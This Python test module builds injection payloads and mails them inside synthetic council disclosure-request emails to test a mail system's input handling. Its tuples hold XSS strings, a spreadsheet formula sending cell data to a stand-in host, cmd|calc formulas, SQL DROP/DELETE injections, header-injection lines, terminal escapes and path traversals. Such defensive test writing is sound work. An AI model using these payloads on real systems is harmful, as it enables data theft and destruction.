"""Payloads for every sink, and mails that carry them in every place a stranger may fill."""

from __future__ import annotations

import base64
import re
from collections.abc import Callable
from dataclasses import dataclass, replace
from datetime import UTC, datetime

from models.mail import Arrival, Envelope, Mode, Origin
from tests.routing.making import AUTHOR, OWN, RELAY, letter

NOW = datetime(2026, 6, 1, 12, 0, tzinfo=UTC)

#: Scripts for each context of a page: text, attribute, single quotes, address, style, comment.
SCRIPTS = (
    "<script>document.title='RAN'</script>",
    '"><img src=x onerror="document.title=\'RAN\'">',
    "'><svg/onload=document.title='RAN'>",
    "javascript:document.title='RAN'",
    "</title></textarea></style><script>document.title='RAN'</script>",
    "<iframe srcdoc=\"<script>top.document.title='RAN'</script>\"></iframe>",
    "<link rel=stylesheet href=http://elsewhere.example/x.css>",
    '<meta http-equiv=refresh content="0;url=http://elsewhere.example/">',
    '<base href=http://elsewhere.example/><form action="//elsewhere.example/"><button>x</button>',
    '<a href="mailto:x@elsewhere.example?bcc=all@elsewhere.example">write</a>',
    "<!--<img src=http://elsewhere.example/pixel>-->",
    "&lt;script&gt;alert(1)&lt;/script&gt;&#x3c;b&#x3e;",
)
FORMULAS = (
    '=HYPERLINK("http://elsewhere.example/?"&A1,"x")',
    "+cmd|'/c calc'!A1",
    "-2+3+cmd|'/c calc'!A1",
    "@SUM(1+1)*cmd|'/c calc'!A1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u200b=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    '";=1+1;"',
)
TEMPLATES = (
    "{{ 7*7 }}{% for x in range(9) %}x{% endfor %}{# gone #}",
    "{{ ''.__class__.__mro__ }}${7*7}#{7*7}<%= 7*7 %>%(name)s {0.__class__}$contact",
)
SQL = (
    "'; DROP TABLE receipt; --",
    "x' OR '1'='1",
    '"; DELETE FROM event; --',
    "%' UNION SELECT hash FROM event -- \\",
    ":name ?1 $1 %(x)s %s",
)
IMAP = ('" LOGOUT {5}', "a1 STORE 1:* +FLAGS (\\Deleted)", "* BYE")
LINES = (
    'x"}\n{"event": "forged", "level": "info"}',
    "x\r\nBcc: all@elsewhere.example\r\n\r\nhello",
    "x\u2028forged\u2029line\x85line\x0b\x0c",
    "x\x00y",
)
TERMINAL = (
    "\x1b[2J\x1b]0;owned\x07\x1b[31mred",
    "\x9b2J\x90q\x9c\x1bP1$r\x1b\\",
    "\u202eexe.cod\u2066\u200f\ufeff",
    "[bold red]markup[/bold red] :bomb:",
)
PATHS = (
    "../../../../tmp/ostiary-traversal",
    "..\\..\\ostiary-traversal",
    "/var/tmp/ostiary-traversal",  # noqa: S108 - a payload
    "C:\\ostiary-traversal",
    "ostiary-traversal\x00.docx",
    "~/ostiary-traversal",
)
ALL = (*SCRIPTS, *FORMULAS, *TEMPLATES, *SQL, *IMAP, *LINES, *TERMINAL, *PATHS)

_XML_CANNOT = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]")
#: Characters of an atom (RFC 5322 section 3.2.3) that make a formula, a template, a query.
NAMES = ("Alder", "Beech", "Cedar", "Damson", "Elder")
LOCAL_PARTS = ("=1+1|'{{7*7}}'!a1", "+cmd|'/c'!a1", "-1+1", "'or'1'='1", "${7*7}#{7*7}%00`id`")


@dataclass(frozen=True, slots=True)
class Mail:
    """One mail: the payload and the places that it stands in."""

    payload: str
    raw: bytes
    envelope: Envelope

    def arrival(self) -> Arrival:
        """As a relay hands it over, to be answered."""
        return Arrival(
            Origin.SMTP,
            "smtp",
            self.raw,
            NOW,
            self.envelope,
            mode=Mode.LIVE,
            session=self.raw[-40:].hex(),
        )


def word(text: str) -> str:
    """`text` as encoded words (RFC 2047), which hold any character."""
    pieces = [text[n : n + 12] for n in range(0, len(text), 12)] or [""]
    coded = (base64.b64encode(one.encode("utf-8", "replace")).decode() for one in pieces)
    return "\r\n ".join(f"=?utf-8?B?{one}?=" for one in coded)


def continued(text: str) -> str:
    """`text` as a parameter's extended value (RFC 2231)."""
    return "utf-8''" + "".join(f"%{one:02X}" for one in text.encode("utf-8", "replace"))


def hostile_form(payload: str) -> bytes:
    """A request in which every field holds the payload among honest words."""
    text = _XML_CANNOT.sub("", payload)
    return form_of(lambda _place: text)


def form_of(word: Callable[[str], str]) -> bytes:
    """A request in which `word(field)` stands in each field, among honest words."""
    return letter(
        "Staffordshire Multi Agency Joint Protocol for Information Exchange",
        "REQUEST FOR DISCLOSURE OF INFORMATION",
        "Date of Request: 29 May 2026",
        "1. Requester Information:",
        f"Designated Requesting Officer Name: {word('officer')} Fficer",
        f"Organisation: {word('organisation')} Council",
        f"Address: {word('office')} Civic Hall",
        f"Telephone Number: 01632 960100 {word('telephone')}",
        "2. Subject of Disclosure Request:",
        f"Name: {word('name')} Tenant-Example",
        f"Date of Birth: 14 March 1980 {word('dob')}",
        f"Address: {word('address')} 12 Madeup Road",
        f"Unique Ref No if known, e.g. Nat. Ins. No: {word('reference')}",
        "Date from which relevant information is sought: 1 January 2026",
        "3. Summary of Specific Information Requested:",
        f"{word('summary')} Please tell us of any reports of noise by the tenant since 1 January "
        f"2026, and anything at all, as we do routinely for every applicant. {word('summary')}",
        "4. Grounds for Disclosure & Potential Actions:",
        f"Grounds for Disclosure: {word('grounds')} prevention of crime and disorder, section 115 of "
        "the Crime and Disorder Act 1998; our own investigation found abuse on 3 May 2026.",
        "Potential Actions (i.e. what do you intend to do once you have the information): "
        f"{word('actions')} decide whether to serve a notice seeking possession.",
        "5. Internal Use Only - Partnership Information Exchange Team (PIET)",
        "If request is rejected provide reason:",
        "If request is accepted provide disclosure:",
        "Name:",
        "Date:",
    )


def mail(payload: str, number: int, *, author: str = AUTHOR, dmarc: str = "pass") -> Mail:
    """A mail with a form whose every place holds `payload`, as our relay leaves it."""
    domain = author.rpartition("@")[2]
    ascii_only = re.sub(r"[^\x21-\x7e]|[<>\\]", "", payload)
    quoted = re.sub(r"[^\x20-\x7e]", "", payload).replace("\\", "\\\\").replace('"', '\\"')
    head = (
        f"Return-Path: <{author}>\r\n"
        f"Received: from out.{domain} (out.{domain} [192.0.2.9]) by {RELAY} with ESMTPS id A1;\r\n"
        "\tMon, 01 Jun 2026 10:00:05 +0100\r\n"
        f"Authentication-Results: {RELAY}; dmarc={dmarc} header.from={domain}\r\n"
        f'From: "{quoted}" <{author}>\r\n'
        f"To: {word(payload)} <{OWN}>\r\n"
        f"Subject: {word(payload)} {quoted}\r\n"
        "Date: Mon, 01 Jun 2026 10:00:00 +0100\r\n"
        f"Message-ID: <{number}.{ascii_only}@council.example>\r\n"
        f"References: <a.{ascii_only}@council.example> {ascii_only} <b@council.example>\r\n"
        f"Organization: {word(payload)}\r\n"
        "MIME-Version: 1.0\r\n"
        'Content-Type: multipart/mixed; boundary="edge"\r\n\r\n'
    )
    parts = [
        "Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n"
        + _base64(f"Please find our form. {payload}\n".encode("utf-8", "replace")),
        _attached("docx", payload, hostile_form(payload)),
        _attached("bin", payload, b"\x00\x01 neither a form nor known"),
        f"Content-Type: application/octet-stream; name*={continued(payload + '.exe')}\r\n"
        f"Content-Disposition: attachment; filename={word(payload)}\r\n"
        "Content-Transfer-Encoding: base64\r\n\r\n" + _base64(b"MZ"),
    ]
    body = "".join(f"--edge\r\n{one}\r\n" for one in parts) + "--edge--\r\n"
    envelope = Envelope(author, (OWN,), "192.0.2.1", f"{payload}", tls=True)
    return Mail(payload, (head + body).encode("utf-8", "replace"), envelope)


def odd_authors(first: int) -> list[Mail]:
    """Mails of proven authors, unknown to the register, whose local parts are payloads."""
    made = []
    for number, local in enumerate(LOCAL_PARTS, first):
        person = NAMES[number % len(NAMES)]  # who asks again about one person joins his case
        one = mail(person, number, author=f"{local}@elsewhere-council.example.cjsm.net")
        made.append(replace(one, payload=local))
    return made


def _attached(kind: str, payload: str, data: bytes) -> str:
    return (
        f"Content-Type: application/octet-stream\r\n"
        f"Content-Disposition: attachment; filename*={continued(payload + '.' + kind)}\r\n"
        "Content-Transfer-Encoding: base64\r\n\r\n" + _base64(data)
    )


def _base64(data: bytes) -> str:
    return base64.encodebytes(data).decode().replace("\n", "\r\n")
